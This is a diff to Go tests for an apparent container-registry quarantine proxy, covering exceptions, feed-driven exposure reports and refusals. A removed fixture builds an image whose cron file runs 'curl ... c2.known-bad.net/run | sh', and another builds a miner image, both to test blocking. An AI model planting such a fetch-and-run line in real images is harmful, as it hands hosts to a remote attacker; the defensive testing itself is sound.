@@ -2,7 +2,6 @@ package main
 
 import (
 	"errors"
-	"maps"
 	"net/http"
 	"os"
 	"path/filepath"
@@ -13,7 +12,6 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"github.com/lazaret/lazaret/internal/testhub"
 	"github.com/lazaret/lazaret/internal/testimage"
 	"github.com/lazaret/lazaret/internal/testpg"
 )
@@ -40,25 +38,6 @@ func newPostgres(t *testing.T) string {
 	return url
 }
 
-// within wants something to come true in a time.
-func within(t *testing.T, d time.Duration, what string, holds func() bool) {
-	t.Helper()
-	for deadline := time.Now().Add(d); !holds(); time.Sleep(10 * time.Millisecond) {
-		if time.Now().After(deadline) {
-			t.Fatalf("%s: not within %s", what, d)
-		}
-	}
-}
-
-// downloads are the requests for content that the hub had, by path.
-func downloads(hub *testhub.Hub) map[string]int {
-	out := hub.Counts()
-	maps.DeleteFunc(out, func(request string, _ int) bool {
-		return !strings.HasPrefix(request, http.MethodGet+" /v2/") || request == "GET /v2/"
-	})
-	return out
-}
-
 // Blocked; excepted at the command line; passes on every replica within 2 s, and nothing is
 // fetched for it; expires; is blocked again.
 func TestExceptionFromRefusalToExpiry(t *testing.T) {
@@ -69,13 +48,7 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 				settings = append(settings, "LAZARET_DATABASE_URL="+newPostgres(t))
 			}
 			hub := startHub(t)
-			img, err := testimage.Build(testimage.Miner("excepted", 1<<20))
-			if err != nil {
-				t.Fatal(err)
-			}
-			if err := hub.Push(t.Context(), "acme/miner", "1.0", img); err != nil {
-				t.Fatal(err)
-			}
+			img := publish(t, hub, testimage.Miner("excepted", 1<<20), "acme/miner:1.0")
 			var all []*replica
 			for range replicas {
 				all = append(all, newReplica(t, append(settings, "LAZARET_UPSTREAM="+hub.URL())...))
@@ -87,15 +60,8 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 					t.Fatalf("before: %d %.200s", status, body)
 				}
 			}
-			within(t, time.Minute, "the downloads that the refusal left behind", func() bool {
-				for d := range img.Blobs {
-					if hub.Downloads(d) < replicas && d != img.Digest {
-						return false
-					}
-				}
-				return true
-			})
 			for _, r := range all {
+				r.settled(t, img)
 				if err := r.records.Flush(t.Context()); err != nil { // the tag's digest is of the pull on record
 					t.Fatal(err)
 				}
@@ -140,19 +106,9 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 // A feed that comes to know what was given out: who has it is listed, and nothing is fetched to find out.
 func TestExposureAfterAFeedChanged(t *testing.T) {
 	hub := startHub(t)
-	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
-		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
-	}}}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := hub.Push(t.Context(), "acme/app", "1", img); err != nil {
-		t.Fatal(err)
-	}
+	img := publish(t, hub, fetchesFrom("c2.known-bad.net"), "acme/app:1")
 	list := filepath.Join(t.TempDir(), "list")
-	if err := os.WriteFile(list, []byte("other.net\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	writeFile(t, list, "other.net\n")
 	r := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s", "LAZARET_FEEDS=malicious-domain="+list)
 	if status, body := r.get(t, "/v2/acme/app/manifests/1"); status != http.StatusOK {
 		t.Fatalf("before: %d %.200s", status, body)
@@ -164,9 +120,7 @@ func TestExposureAfterAFeedChanged(t *testing.T) {
 		t.Errorf("before: %s", out)
 	}
 	before := downloads(hub)
-	if err := os.WriteFile(list, []byte("known-bad.net\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	writeFile(t, list, "known-bad.net\n")
 	if !r.feeds.Refresh(t.Context()) {
 		t.Fatal("the feed did not change")
 	}
@@ -185,15 +139,7 @@ func TestExposureAfterAFeedChanged(t *testing.T) {
 // within 2 s, and nothing is fetched for it.
 func TestRequestFromRefusalToPull(t *testing.T) {
 	hub := startHub(t)
-	spec := testimage.Clean("asked for", 64<<10)
-	spec.Layers[1].Raw = []byte("no archive of any kind")
-	img, err := testimage.Build(spec)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := hub.Push(t.Context(), "acme/odd", "1", img); err != nil {
-		t.Fatal(err)
-	}
+	img := publish(t, hub, unreadable("asked for"), "acme/odd:1")
 	r := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s")
 	const manifest = "/v2/acme/odd/manifests/1"
 	status, body := r.get(t, manifest)
@@ -201,14 +147,7 @@ func TestRequestFromRefusalToPull(t *testing.T) {
 	if status != http.StatusForbidden || !strings.Contains(body, "quarantine") || id == nil {
 		t.Fatalf("refusal: %d %s", status, body)
 	}
-	within(t, time.Minute, "the downloads that the refusal left behind", func() bool {
-		for d := range img.Blobs {
-			if hub.Downloads(d) == 0 && d != img.Digest {
-				return false
-			}
-		}
-		return true
-	})
+	r.settled(t, img)
 	if err := r.records.Flush(t.Context()); err != nil {
 		t.Fatal(err)
 	}
